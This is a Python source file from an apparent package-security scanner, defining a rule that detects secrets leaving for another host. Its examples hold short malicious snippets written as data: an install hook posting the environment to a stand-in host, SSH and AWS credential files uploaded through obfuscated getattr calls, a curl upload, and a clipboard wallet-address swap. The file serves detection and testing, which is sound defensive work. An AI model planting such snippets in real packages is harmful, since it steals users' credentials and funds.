"""Theft: secrets of the machine or of the caller leave for another host."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Call, Does
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Finding, Phase, Severity
from pratique.rules.claims import calls, claim, command, when
from pratique.rules.destinations import hidden
from pratique.rules.rule import Example, Rule
from pratique.rules.secrets_gathered import collected, dropped, picked_up
from pratique.rules.secrets_leaving import ID, WHAT, leaving
from pratique.rules.secrets_sent import carried, sent

_KEPT = re.compile(r"(?:^|[;&|]\s*)(?:/usr/bin/)?(?:env|printenv|set)\s*(?:\|[^|>]{1,40})?>{1,2}\s*\S")
"""Commands that put the whole environment into a file."""


_CLIPBOARD = ("pyperclip.", "clipboard.", "win32clipboard.", "tkinter.")
_WALLET = re.compile(r"bc1[a-z0-9]{25,60}|0x[0-9a-fA-F]{40}|[13T][1-9A-HJ-NP-Za-km-z]{25,34}")
"""The address of a wallet: two kinds of Bitcoin's, Ethereum's, Tron's."""


def _check(facts: PackageFacts) -> Iterator[Finding]:
    filled = dropped(facts)
    for file in facts.python:
        yield from collected(file)
        if filled:
            yield from picked_up(file, filled)
    for path, call in calls(facts):
        if call.does & {Does.SEND, Does.FETCH}:
            yield from sent(path, call)
        elif _replaces_address(call):
            message = f"puts the address of a wallet into the clipboard {when(call.phase)}"
            yield claim(ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL)
        elif Does.RUN_PROCESS in call.does:
            if read_shell(command(call)).steals:
                yield leaving(path, call, "secrets", (), sure=True)
            elif taints := carried(call):
                yield leaving(
                    path, call, WHAT[taints[0].source], taints, sure=call.phase.automatic or hidden(call, command(call))
                )
            elif call.phase is Phase.INSTALL and _KEPT.search(command(call)):
                message = f"keeps the whole environment in a file {when(call.phase)}"
                yield claim(ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL)


def _replaces_address(call: Call) -> bool:
    """Whether it puts a wallet's address, which stands in the code, where a person has copied another one."""
    given = [a for key, a in call.arguments.items() if key != "path"] if call.name.startswith(_CLIPBOARD) else []
    return any(a.known and _WALLET.fullmatch(a.text.strip()) for a in given)


RULE = Rule(
    id=ID,
    behaviour=Behaviour.THEFT,
    summary="Credentials, the environment, the clipboard, the screen or a caller's secret are sent to another host.",
    gain="Accounts, money and the next victims: publishing tokens spread the attack, cloud keys pay for it.",
    honest="Clients of a service send the one token that belongs to it; only a flow from a secret's place to a sink counts.",
    blocks="When it happens by itself, or when the code or the destination is hidden: decoded, a raw address, a paste, a chat, a tunnel.",
    check=_check,
    loud=(
        Example(
            title="the environment at install, in a command class",
            files={
                "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\n"
                "class I(install):\n    def run(self):\n        import os, requests as q\n"
                "        q.post('https://hook.example.invalid/', data=dict(os.environ))\n"
                "setup(name='x', cmdclass={'install': I})\n"
            },
        ),
        Example(
            title="a key file through getattr",
            files={
                "pkg/__init__.py": "import os, urllib.request as u\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                "getattr(u, 'url' + 'open')('http://198.51.100.3/', data=k.encode())\n"
            },
        ),
        Example(
            title="the environment in an address, when called",
            files={
                "pkg/__init__.py": "import base64, os, requests as r\ndef make():\n"
                "    d = base64.b64encode(str(dict(os.environ)).encode()).decode()\n"
                "    getattr(r, 'g' + 'et')('https://c.example.invalid/x/' + d)\n"
            },
        ),
        Example(
            title="a private key handed to a helper",
            files={
                "pkg/__init__.py": "import requests\ndef check(private_key):\n"
                "    requests.post('http://203.0.113.9/c', json={'k': private_key})\n"
            },
        ),
        Example(
            title="gathered in an archive, which is sent",
            files={
                "pkg/__init__.py": "import os, requests as r\nfrom zipfile import ZipFile\nz = os.getenv('TEMP') + '/a.zip'\n"
                "with ZipFile(z, 'w') as f:\n    f.write(os.path.expanduser('~/.aws/credentials'))\n"
                "getattr(r, 'po' + 'st')('https://c.example.invalid/', files={'f': open(z, 'rb')})\n"
            },
        ),
        Example(
            title="gathered by one module and sent by another",
            files={
                "pkg/a.py": "import shutil, socket\ndef collect():\n    shutil.copyfile('/home/u/.ssh/id_rsa', '/tmp/state.bin')\n",
                "pkg/__init__.py": "import getpass, requests\n"
                "requests.post('http://203.0.113.9/' + getpass.getuser(), files={'f': open('/tmp/state.bin', 'rb')})\n",
            },
        ),
        Example(
            title="copied one by one and uploaded by a command, when called",
            files={
                "pkg/__init__.py": "import os, shutil\ndef run(to):\n    shutil.copytree('/home/u/.ssh', to + '/s')\n"
                "    shutil.copyfile('/home/u/.bash_history', to + '/h')\n"
                "    getattr(os, 'sys' + 'tem')('curl -F file=@' + to + '.zip https://c.example.invalid/up')\n"
            },
        ),
        Example(
            title="another wallet than the one that was copied",
            files={
                "pkg/__init__.py": "import pyperclip as p\ndef watch():\n    if p.paste().startswith('0x'):\n"
                "        p.copy('0x0000000000000000000000000000000000000000')\n"
            },
        ),
        Example(
            title="the environment kept in a file at install",
            files={"setup.py": "import os\nos.system('env > build/LICENSE')\n"},
        ),
        Example(
            title="two keys of a cloud, spelled in an address, when called",
            files={
                "pkg/__init__.py": "import os, requests as r\ndef load():\n"
                "    k, s = os.environ['AWS_ACCESS_KEY_ID'], os.environ['AWS_SECRET_ACCESS_KEY']\n"
                "    getattr(r, 'g' + 'et')('https://c.example.invalid/x/' + k + '/' + s)\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="a backup of one's own keys, which stays",
            files={
                "pkg/__init__.py": "import shutil, requests\ndef backup(to):\n    shutil.copytree('/home/u/.ssh', to + '/ssh')\n"
                "    shutil.copyfile('/home/u/.bash_history', to + '/history')\n"
                "    requests.post('https://c.example.invalid/done', json={'ok': True})\n"
            },
        ),
        Example(
            title="one module writes a report of its own, another uploads it",
            files={
                "pkg/a.py": "def report(lines):\n    open('/tmp/report.txt', 'w').write(lines)\n",
                "pkg/b.py": "import requests\ndef upload():\n"
                "    requests.post('https://c.example.invalid/', files={'f': open('/tmp/report.txt', 'rb')})\n",
            },
        ),
        Example(
            title="a client with a token of its own service",
            files={
                "pkg/__init__.py": "import os, requests\ndef call():\n"
                "    return requests.get('https://api.example.invalid/', headers={'Authorization': os.environ['PKG_TOKEN']})\n"
            },
        ),
    ),
)
